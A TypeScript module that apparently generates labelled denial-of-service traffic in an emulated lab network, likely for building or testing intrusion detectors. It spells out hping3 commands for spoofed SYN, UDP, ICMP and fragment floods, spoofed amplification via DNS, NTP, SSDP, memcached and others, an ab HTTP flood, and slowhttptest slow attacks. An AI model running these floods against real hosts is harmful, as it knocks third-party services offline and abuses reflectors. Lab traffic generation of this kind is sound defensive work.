import { addressOf, MACHINES } from '../network.js';
import type { Stage } from '../stage.js';
import { type Attack, ownAttacker, WEB } from './attack.js';

interface FloodOptions {
  readonly name: string;
  readonly kind: string;
  readonly args: readonly string[];
  readonly filter?: string;
  readonly isSpoofed?: boolean;
}

/** A flood of a few thousand packets with hping3. */
function flood({ name, kind, args, filter, isSpoofed = false }: FloodOptions): Attack {
  const attacker = ownAttacker();
  return {
    name,
    label: `${kind}_${name.replaceAll('-', '_')}`,
    category: 'flood',
    attacker: isSpoofed ? 'spoofed' : attacker,
    victim: WEB,
    filter: filter ?? `host ${attacker} and host ${WEB}`,
    limitS: 15,
    tools: ['hping3'],
    note: `hping3 ${args.join(' ')}`,
    run: (stage) =>
      stage.run('attacker', ['hping3', '-n', '-q', ...(isSpoofed ? [] : ['-a', attacker]), ...args, WEB], 15),
  };
}

const SPOOFED_SYN = `dst host ${WEB} and tcp[tcpflags] == tcp-syn and not src net 10.77.0.0/24`;

interface Reflection {
  readonly name: string;
  readonly port: number;
  /** Whose name is used: another machine for each, so that each is judged on its own. */
  readonly machine: string;
  /** The victim's port is another in each question. */
  readonly isSpread?: boolean;
}

/** Small questions in the victim's name to reflectors, and their large answers to it. */
function amplification({ name, port, machine, isSpread = false }: Reflection): Attack {
  const reflectors = MACHINES.find((candidate) => candidate.name === 'reflectors')!.links[0]!.addresses;
  const victim = addressOf(machine);
  const spoofed = ['-a', victim, '-s', '40000', ...(isSpread ? [] : ['-k'])];
  const question = ['-p', String(port), '-d', '16', '-i', 'u20000', '-c', '40'];
  const ask = (stage: Stage, reflector: string) =>
    stage.run('attacker', ['hping3', '-n', '-q', '-2', ...spoofed, ...question, reflector], 10);
  return {
    name: `amplification-${name}`,
    label: `amplification_${name.replaceAll('-', '_')}`,
    category: 'amplification',
    attacker: 'reflectors 198.51.100.201 to 198.51.100.220',
    victim,
    filter: `udp src port ${port} and dst host ${victim} and src net 198.51.100.0/24`,
    limitS: 15,
    tools: ['hping3'],
    note: `800 questions of 16 bytes to 20 reflectors${isSpread ? ', from many ports' : ''}`,
    run: (stage) => Promise.all(reflectors.map((reflector) => ask(stage, reflector))),
  };
}

/** Requests as fast as they are answered. */
function httpFlood(): Attack {
  const attacker = ownAttacker();
  return {
    name: 'http-flood',
    label: 'http_flood_ab',
    category: 'flood',
    attacker,
    victim: WEB,
    filter: `host ${attacker} and host ${WEB}`,
    limitS: 15,
    tools: ['ab'],
    note: 'ab -n 5000 -c 30',
    run: (stage) =>
      stage.run('attacker', ['ab', '-q', '-n', '5000', '-c', '30', '-s', '5', `http://${WEB}/index.html`], 15),
  };
}

/** Connections held open by giving or taking a few bytes at a time. */
function slow(mode: string, flag: string, extra: readonly string[]): Attack {
  const attacker = ownAttacker();
  const args = [flag, '-c', '120', '-r', '40', '-i', '4', '-l', '35', ...extra];
  return {
    name: `slow-${mode}`,
    label: `slow_dos_${mode}`,
    category: 'slow_dos',
    attacker,
    victim: WEB,
    filter: `host ${attacker} and host ${WEB}`,
    limitS: 45,
    tools: ['slowhttptest'],
    note: `slowhttptest ${args.join(' ')}`,
    run: (stage) => stage.run('attacker', ['slowhttptest', ...args, '-u', `http://${WEB}/large.bin`], 45),
  };
}

/** Floods, spoofed and not; reflection; slow denial of service. */
export const FLOODS: readonly Attack[] = [
  flood({
    name: 'syn-spoofed',
    kind: 'syn_flood',
    args: ['-S', '--rand-source', '-p', '80', '-i', 'u1000', '-c', '4000'],
    filter: SPOOFED_SYN,
    isSpoofed: true,
  }),
  flood({ name: 'syn-one-source', kind: 'syn_flood', args: ['-S', '-p', '80', '-i', 'u1000', '-c', '4000'] }),
  flood({ name: 'ack', kind: 'packet_flood', args: ['-A', '-p', '80', '-i', 'u500', '-c', '6000'] }),
  flood({ name: 'udp', kind: 'udp_flood', args: ['-2', '-p', '5000', '-d', '200', '-i', 'u500', '-c', '6000'] }),
  flood({ name: 'icmp', kind: 'icmp_flood', args: ['-1', '-d', '56', '-i', 'u500', '-c', '6000'] }),
  flood({
    name: 'fragments',
    kind: 'packet_flood',
    args: ['-1', '-f', '-d', '64', '-i', 'u1500', '-c', '2000'],
  }),
  httpFlood(),
  amplification({ name: 'dns', port: 53, machine: 'dns' }),
  amplification({ name: 'ntp', port: 123, machine: 'web' }),
  amplification({ name: 'ssdp-spread', port: 1900, machine: 'client4', isSpread: true }),
  amplification({ name: 'ssdp', port: 1900, machine: 'ssh' }),
  amplification({ name: 'cldap', port: 389, machine: 'ftp' }),
  amplification({ name: 'memcached', port: 11211, machine: 'mail' }),
  amplification({ name: 'chargen', port: 19, machine: 'files' }),
  amplification({ name: 'snmp', port: 161, machine: 'client1' }),
  slow('headers', '-H', []),
  slow('body', '-B', ['-s', '8192']),
  slow('read', '-X', ['-w', '10', '-y', '20', '-n', '5', '-z', '8', '-k', '3']),
];
